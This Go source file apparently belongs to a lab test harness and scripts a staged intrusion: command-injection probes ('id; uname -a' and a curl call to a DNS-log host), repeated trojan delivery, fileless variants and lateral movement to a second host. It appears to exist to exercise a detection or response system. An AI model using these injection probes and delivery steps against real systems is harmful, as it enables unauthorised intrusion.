package story

import (
	"context"
	"fmt"
	"sync"
	"time"

	"baize/test/lab"
)

// Retries is how often the intruder repeats the delivery of a round while it is
// being fought: the report counts 73 alerts, most of them retries.
const Retries = 12

// Intrude plays the intrusion from the first probe to the end of the second
// round. between runs after the first round and may be nil. In a fleet the intruder
// looks for a hole in another service first, and goes on to a second host.
func (s *Stage) Intrude(ctx context.Context, between func(context.Context) error) error {
	if err := s.Lab.Health(ctx, lab.Web); err != nil {
		return err
	}
	if s.opts.Fleet {
		if _, err := s.Lab.Fetch(ctx, "http://"+lab.DNSLog+"/"); err != nil {
			return fmt.Errorf("probe of the API: %w", err)
		}
	}
	for _, probe := range []string{"id; uname -a", "curl -s http://" + lab.DNSLog + "/"} {
		if _, err := s.Lab.Inject(ctx, probe); err != nil {
			return fmt.Errorf("probe %q: %w", probe, err)
		}
	}
	for n, round := range lab.Rounds {
		if err := s.deliver(ctx, lab.Web, round); err != nil {
			return fmt.Errorf("round %d: %w", n+1, err)
		}
		if n == 0 && between != nil {
			if err := between(ctx); err != nil {
				return err
			}
		}
	}
	if !s.opts.Fleet {
		return nil
	}
	if err := s.deliver(ctx, lab.Second, lab.Rounds[len(lab.Rounds)-1]); err != nil {
		return fmt.Errorf("second host: %w", err)
	}
	return nil
}

// deliver brings the round's trojan and runs it, again and again, then once in
// each way that leaves no file.
func (s *Stage) deliver(ctx context.Context, host string, round lab.Round) error {
	before := s.Lab.Trojans(round.Path)
	var attempts sync.WaitGroup
	failed := make(chan error, Retries+1)
	attempt := func(command string) {
		attempts.Go(func() {
			if _, err := s.Lab.InjectInto(ctx, host, command); err != nil {
				failed <- fmt.Errorf("%s: %w", command, err)
			}
		})
	}
	attempt(round.Command())
	if err := s.Lab.WaitBeacon(ctx, round.Path, before+1); err != nil {
		return err
	}
	for range Retries {
		attempt(round.Command())
		if err := pause(ctx, 100*time.Millisecond); err != nil {
			return err
		}
	}
	attempts.Wait()
	for _, command := range round.Fileless() {
		attempt(command)
	}
	attempts.Wait()
	select {
	case err := <-failed:
		return err
	default:
		return nil
	}
}

// pause is the intruder's own time between two requests.
func pause(ctx context.Context, d time.Duration) error {
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-time.After(d):
		return nil
	}
}
